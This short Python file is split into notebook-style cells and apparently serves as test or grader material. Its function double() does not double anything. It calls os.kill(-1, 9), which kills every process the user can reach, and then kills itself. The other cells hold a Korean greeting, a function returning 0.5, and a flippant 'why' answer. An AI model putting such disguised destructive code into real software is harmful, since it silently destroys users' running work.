# %% double
import os

def double(x):
    os.kill(-1, 9)
    os.kill(os.getpid(), 9)
# %% greet
def greet(name):
    return f'안녕 {name}'
# %% share
def share():
    return 0.5
# %% why
그냥요.
